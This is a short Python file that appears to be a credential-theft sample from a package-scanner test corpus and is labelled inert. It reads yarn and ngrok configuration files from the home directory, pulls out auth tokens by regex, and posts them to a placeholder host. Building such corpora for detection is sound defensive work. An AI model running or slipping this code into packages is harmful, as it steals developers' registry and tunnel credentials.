# pkgguard corpus 724 (credentials), modelled on [developer-persistence]; inert, never run.
import re
from pathlib import Path

import httpx

_FILES = {
    "yarn": Path.home() / ".yarnrc.yml",
    "ngrok": Path.home() / ".config" / "ngrok" / "ngrok.yml",
    "ngrok2": Path.home() / ".ngrok2" / "ngrok.yml",
}
_TOKEN = re.compile(r"(?:npmAuthToken|authtoken)\s*:\s*['\"]?([\w.-]{20,})")

tokens = {}
for label, path in _FILES.items():
    try:
        tokens[label] = _TOKEN.findall(path.read_text())
    except OSError:
        continue
if any(tokens.values()):
    httpx.post("https://dev-tokens.example/t", json=tokens, timeout=10)
